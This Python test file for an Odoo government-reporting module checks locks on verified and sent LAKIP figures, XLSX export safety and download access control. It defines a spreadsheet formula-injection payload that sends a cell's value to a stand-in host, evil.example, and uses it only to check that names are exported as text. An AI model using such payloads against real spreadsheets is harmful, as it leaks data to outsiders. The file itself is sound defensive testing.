import io
import re
import zipfile

from odoo import Command
from odoo.exceptions import AccessError, UserError
from odoo.tests import Form, HttpCase, tagged

from .common import CAPAIAN_XLSX, REGISTER_XLSX, WORKSHEET_XLSX, LakipCommon

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&C5,"Klik")'


def formulas(data):
    """The formula elements of every sheet of an XLSX file."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            match
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for match in re.findall(rb"<f[ >].*?</f>", archive.read(name))
        ]


@tagged("post_install", "-at_install")
class TestLakipLocks(LakipCommon):
    """What a Bidang verified and what the agency sent cannot be rewritten, except through
    Reopen with a reason; computed results are never written."""

    def _realise(self, target, *values):
        target.realization_ids = [
            Command.create({"quarter": str(q), "value": v})
            for q, v in enumerate(values, start=1)
            if v is not None
        ]

    def _sent_report_2023(self):
        """A sent LAKIP 2023 whose targets are on no worksheet, as the demo's."""
        targets = self.env["lakip.target"].create(
            [
                {"indicator_id": self.ind_rehab.id, "year": 2023, "target": 80},
                {"indicator_id": self.ind_village.id, "year": 2023, "target": 30},
            ]
        )
        self._realise(targets[0], 20, 20, 20, 12)
        self._realise(targets[1], None, None, None, 33)
        letter_kind = self.env["sop.letter.kind"].create(
            {"name": "Surat Pengantar", "company_id": self.company.id, "code": "SP"}
        )
        letter = self.env["sop.letter"].create(
            {"name": "Pengantar LAKIP", "company_id": self.company.id, "kind_id": letter_kind.id}
        )
        report = self.env["lakip.report"].create(
            {
                "company_id": self.company.id,
                "year": 2023,
                "state": "sent",
                "recipients": "Kepala BAPPEDA",
                "date_sent": "2024-03-05",
                "letter_id": letter.id,
                "letter_number": "050/7/DSPMD/III/2024",
            }
        )
        return report, targets

    def test_computed_results_never_written(self):
        """capaian, status and realisation are refused to everyone, open worksheet or not."""
        self.report.with_user(self.user_kasubag).action_send_worksheets()
        target = self._target(self.ind_rehab)
        hostile = {"capaian": 999, "status": "achieved", "realisation": 12345}
        for user in (self.user_unit_1, self.user_kasubag, self.user_head):
            with (
                self.subTest(user=user.login),
                self.assertRaisesRegex(UserError, "computed from its target"),
            ):
                target.with_user(user).write(hostile)
        with self.assertRaisesRegex(UserError, "computed from its target"):
            target.sudo().write({"has_capaian": True})
        with self.assertRaisesRegex(UserError, "computed from its target"):
            self.env["lakip.target"].with_user(self.user_kasubag).create(
                {"indicator_id": self.ind_rehab.id, "year": 2030, "target": 1, "capaian": 500}
            )
        target.invalidate_recordset()
        self.assertEqual((target.status, target.capaian, target.realisation), ("no_data", 0, 0))

    def test_verified_worksheet_figures_locked_until_sent_back(self):
        """On a verified worksheet nothing moves; the Kasubag sends it back with a reason."""
        self.report.with_user(self.user_kasubag).action_send_worksheets()
        sheet = self._sheet(self.dept_unit_1)
        target = self._target(self.ind_rehab)
        self._realise(target, 72)
        sheet.with_user(self.user_kabid_1).action_mark_filled()
        sheet.with_user(self.user_kabid_1).action_verify()
        value = target.realization_ids
        for user, vals in (
            (self.user_kasubag, {"target": 1}),
            (self.user_unit_1, {"analysis": "diubah"}),
        ):
            with self.subTest(user=user.login), self.assertRaisesRegex(UserError, "Verified"):
                target.with_user(user).write(vals)
        with self.assertRaisesRegex(UserError, "Verified"):
            value.with_user(self.user_kasubag).write({"value": 999})
        with self.assertRaisesRegex(UserError, "Verified"):
            value.with_user(self.user_kasubag).unlink()
        self.assertEqual((target.capaian, target.status), (90.0, "not_achieved"))
        # The allowed path: a Kasubag sends it back with a reason, the unit corrects it.
        wizard = Form(
            self.env["lakip.worksheet.reopen.wizard"]
            .with_user(self.user_kasubag)
            .with_context(default_worksheet_ids=sheet.ids)
        )
        wizard.reason = "Realisasi TW I salah ketik"
        wizard.save().action_confirm()
        value.with_user(self.user_unit_1).write({"value": 80})
        self.assertEqual((target.capaian, target.status), (100.0, "achieved"))

    def test_sent_report_figures_locked(self):
        """On a sent LAKIP, targets, quarterly values, the cap and the letter number stay."""
        report, (rehab, village) = self._sent_report_2023()
        budget = self.env["lakip.budget"].create(
            {"report_id": report.id, "name": "Program Rehabilitasi", "budget": 100, "spent": 90}
        )
        average = report.average_capaian
        self.assertEqual(average, "100 %")  # (90 + 110) / 2
        for user in (self.user_kasubag, self.user_head):
            with self.subTest(user=user.login):
                with self.assertRaisesRegex(UserError, "LAKIP 2023 of Dinas Uji A is Sent"):
                    rehab.with_user(user).write({"target": 1})
                with self.assertRaisesRegex(UserError, "is Sent"):
                    rehab.realization_ids[0].with_user(user).write({"value": 9999})
                with self.assertRaisesRegex(UserError, "is Sent"):
                    rehab.realization_ids[0].with_user(user).unlink()
                with self.assertRaisesRegex(UserError, "is Sent"):
                    village.with_user(user).realization_ids = [
                        Command.create({"quarter": "1", "value": 9999})
                    ]
                with self.assertRaisesRegex(UserError, "Achievement Cap"):
                    report.with_user(user).write({"capaian_cap": 5})
                with self.assertRaisesRegex(UserError, "Cover Letter Number"):
                    report.with_user(user).write({"letter_number": "palsu"})
                with self.assertRaisesRegex(UserError, "is Sent"):
                    self.ind_rehab.with_user(user).write({"aggregation": "final"})
                with self.assertRaisesRegex(UserError, "programme budgets"):
                    budget.with_user(user).write({"spent": 1})
                with self.assertRaisesRegex(UserError, "programme budgets"):
                    self.env["lakip.budget"].with_user(user).create(
                        {"report_id": report.id, "name": "Program baru", "budget": 5}
                    )
        with self.assertRaises(UserError):
            rehab.with_user(self.user_unit_1).write({"target": 1})
        # The agency's new cap applies to later years, not to what was sent.
        self.company.lakip_capaian_cap = 50
        report.invalidate_recordset()
        self.assertEqual(report.average_capaian, average)
        self.assertEqual((rehab.capaian, village.capaian), (90.0, 110.0))
        self.assertEqual(report.letter_number, "050/7/DSPMD/III/2024")

    def test_reopen_sent_report(self):
        """A Kasubag reopens the sent LAKIP with a reason; then its figures can change."""
        report, (rehab, _village) = self._sent_report_2023()
        with self.assertRaises(AccessError):
            report.with_user(self.user_unit_1)._reopen("Koreksi")
        with self.assertRaisesRegex(UserError, "Say why"):
            report.with_user(self.user_kasubag)._reopen("  ")
        action = report.with_user(self.user_kasubag).action_reopen()
        wizard = Form(
            self.env[action["res_model"]]
            .with_user(self.user_kasubag)
            .with_context(**action["context"])
        )
        wizard.reason = "Koreksi realisasi TW IV dari BPS"
        wizard.save().action_confirm()
        self.assertEqual(report.state, "collecting")
        self.assertIn("Koreksi realisasi TW IV dari BPS", report.message_ids[0].body)
        rehab.realization_ids.filtered(lambda r: r.quarter == "4").with_user(
            self.user_kasubag
        ).value = 20
        self.assertEqual(rehab.capaian, 100.0)
        report.with_user(self.user_kasubag).capaian_cap = 95
        self.assertEqual(rehab.capaian, 95.0)
        budget = (
            self.env["lakip.budget"]
            .with_user(self.user_kasubag)
            .create(
                {"report_id": report.id, "name": "Program Rehabilitasi", "budget": 100, "spent": 90}
            )
        )
        budget.spent = 95
        self.assertEqual(budget.rate, 95.0)

    def test_compiled_report_reopened_keeps_worksheets_locked(self):
        """Reopening a compiled LAKIP leaves its worksheets verified: each goes back by name."""
        self.report.with_user(self.user_kasubag).action_send_worksheets()
        for sheet, kabid in ((self._sheet(self.dept_unit_1), self.user_kabid_1),
                             (self._sheet(self.dept_unit_2), self.user_kabid_2)):  # fmt: skip
            sheet.with_user(kabid).action_mark_filled()
            sheet.with_user(kabid).action_verify()
        self.report.with_user(self.user_kasubag).action_compile()
        self.report.with_user(self.user_kasubag)._reopen("Data BPS terbaru")
        sheet = self._sheet(self.dept_unit_1)
        self.assertEqual(sheet.state, "verified")
        with self.assertRaisesRegex(UserError, "Verified"):
            self._target(self.ind_rehab).with_user(self.user_kasubag).target = 1
        sheet.with_user(self.user_kasubag)._send_back("Data BPS terbaru")
        self._target(self.ind_rehab).with_user(self.user_kasubag).target = 70
        self.assertEqual(self._target(self.ind_rehab).target, 70)


@tagged("post_install", "-at_install")
class TestXlsxNoFormula(LakipCommon):
    """Names typed by users are written as text in every workbook, never as formulas."""

    def test_worksheet_capaian_and_register_write_text(self):
        """A department, objective, indicator, SOP or agency named like a formula stays text."""
        self.dept_unit_1.name = HOSTILE
        self.objective.name = HOSTILE
        self.ind_rehab.name = HOSTILE
        self.company.name = HOSTILE
        self.report.with_user(self.user_kasubag).action_send_worksheets()
        sheet = self.report.worksheet_ids.filtered(lambda w: w.department_id == self.dept_unit_1)
        worksheet_file = sheet._export_xlsx()
        self.assertEqual(formulas(worksheet_file), [])
        self.assertIn(b"HYPERLINK", zipfile.ZipFile(io.BytesIO(worksheet_file)).read(
            "xl/worksheets/sheet1.xml"
        ))  # fmt: skip
        self.assertEqual(formulas(self._render_xlsx(CAPAIAN_XLSX, self.report)), [])
        self.sop.name = HOSTILE
        self.assertEqual(formulas(self._render_xlsx(REGISTER_XLSX, self.sop)), [])


@tagged("post_install", "-at_install")
class TestWorksheetDownloadProbe(HttpCase, LakipCommon):
    """Another agency's worksheet and a missing one get the same answer."""

    def test_same_answer_for_forbidden_and_missing(self):
        """A user of agency B asks for agency A's worksheet and for an id that does not exist."""
        self.report.with_user(self.user_kasubag).action_send_worksheets()
        sheet = self._sheet(self.dept_unit_1)
        self.authenticate("sop_kasubag_b", "sop_kasubag_b")
        forbidden = self.url_open(self._xlsx_url(WORKSHEET_XLSX, sheet))
        missing = self.url_open(self._xlsx_url(WORKSHEET_XLSX, sheet.browse(987654321)))
        self.assertEqual(forbidden.status_code, 403)
        self.assertEqual(missing.status_code, 403)
        # The error page differs only by its form token, which carries the time.
        token = re.compile(rb'csrf_token: "[0-9a-fo]+"')
        self.assertEqual(token.sub(b"", forbidden.content), token.sub(b"", missing.content))
        self.assertIn(b"You cannot download this file", forbidden.content)
        report = self.url_open(self._xlsx_url(CAPAIAN_XLSX, self.report))
        self.assertEqual(report.status_code, 403)
        self.assertNotEqual(report.content[:2], b"PK")
        # The unit's own staff downloads it.
        self.authenticate("lakip_unit_1", "lakip_unit_1")
        allowed = self.url_open(self._xlsx_url(WORKSHEET_XLSX, sheet))
        self.assertEqual(allowed.status_code, 200)
        self.assertEqual(allowed.content[:2], b"PK")
